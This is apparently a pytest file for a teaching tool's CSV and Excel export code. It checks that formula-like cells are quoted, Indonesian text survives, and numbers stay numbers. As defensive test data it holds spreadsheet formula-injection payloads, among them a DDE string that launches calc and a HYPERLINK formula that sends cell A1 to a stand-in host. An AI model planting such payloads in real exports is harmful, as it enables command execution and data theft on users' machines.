"""CSV and Excel exports: formula-like text stays text, Indonesian text survives, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from lessonkit.lesson.progress import to_csv
from lessonkit.rules.safe_export import FORMULA_START, csv_bytes, safe_cell, safe_frame, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://example.invalid","klik")', "+62 812", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1",
           "\n=1", "＝1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ana Putri", "kode etik = pedoman", 3, -2.5, None, "", "'sudah"])
def test_other_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_safe_frame_covers_cells_and_column_names_and_leaves_the_input_alone():
    frame = pd.DataFrame({"=nama": ["=1+1", "Budi"], "skor": [-1, 0.5]})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=nama", "skor"]
    assert list(safe["'=nama"]) == ["'=1+1", "Budi"] and list(safe["skor"]) == [-1, 0.5]
    assert frame.iloc[0, 0] == "=1+1"


def test_csv_has_a_bom_keeps_indonesian_text_and_neutralises_every_formula():
    data = csv_bytes(pd.DataFrame({"nama": [*HOSTILE, "Siti Nurhaliza — kelas XI"], "skor": range(len(HOSTILE) + 1)}))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["nama", "skor"]
    for row in rows[1:]:
        assert not row[0].startswith(FORMULA_START), row
    assert rows[-1] == ["Siti Nurhaliza — kelas XI", str(len(HOSTILE))]


def test_a_students_own_export_is_formula_safe():
    rows = [{"jenis": "profil", "waktu": datetime(2026, 1, 1), "bagian": "", "soal": "",
             "jawaban": '=HYPERLINK("http://example.invalid")', "skor": None, "keterangan": "@kelas"}]
    text = to_csv(rows).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@kelas" in text


def test_excel_cells_are_text_never_formulas_and_show_exactly_as_typed():
    frame = pd.DataFrame({"nama": [*HOSTILE, "Ana\x01 Putri"], "skor": [*range(len(HOSTILE)), 0.75],
                          "waktu": [datetime(2026, 1, 2, 8, 30)] * (len(HOSTILE) + 1)})
    data = xlsx_bytes({"Kelas XI": frame})
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no cell is a formula"
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Kelas XI"
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in names] == [*HOSTILE, "Ana Putri"]
    assert all(c.data_type == "s" for c in names) and all(c.quotePrefix for c in names[:-1])
    assert [row[1].value for row in sheet.iter_rows(min_row=2)][-1] == 0.75
    assert sheet["C2"].value == datetime(2026, 1, 2, 8, 30)


def test_excel_accepts_missing_values_lists_and_numpy_numbers():
    frame = pd.DataFrame({"jawaban": [["a", "b"], None], "skor": [float("nan"), 1.0], "n": [1, 2]})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Data": frame}))).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["jawaban", "skor", "n"],
                                                                     ["['a', 'b']", None, 1], [None, 1, 2]]


EVIL = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'


def test_formula_like_text_gets_a_quote_and_numbers_stay_numbers():
    assert safe_cell(EVIL) == "'" + EVIL
    assert safe_cell("-5") == "'-5" and safe_cell(-5) == -5 and safe_cell("Ana") == "Ana"


def test_csv_has_a_bom_and_no_cell_starting_a_formula():
    data = csv_bytes(pd.DataFrame({"Nama": [EVIL, "Budi"], "Nilai": [80, -5]}))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",-5" in text


def test_workbook_keeps_formula_like_names_as_text_shown_as_typed():
    frame = pd.DataFrame({"Nama": [EVIL, "@SUM(1)", "Budi"], "Nilai": [80.5, None, 3]})
    data = xlsx_bytes({"Nilai": frame}, {"Nilai": "0.0"})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Nilai"]
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
    assert sheet["A4"].value == "Budi" and not sheet["A4"].quotePrefix
    assert sheet["B2"].value == 80.5 and sheet["B2"].number_format == "0.0" and sheet["B3"].value is None
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml, "no cell of the workbook is a formula"


def test_workbook_has_a_bold_frozen_header_filters_and_fitted_widths():
    frame = pd.DataFrame({"No": [1, 2], "Alasan": ["pendek", "x" * 200]})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Data": frame})))["Data"]
    assert [c.value for c in sheet[1]] == ["No", "Alasan"]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.column_dimensions["A"].width < sheet.column_dimensions["B"].width <= 60
    assert sheet["B3"].alignment.wrap_text
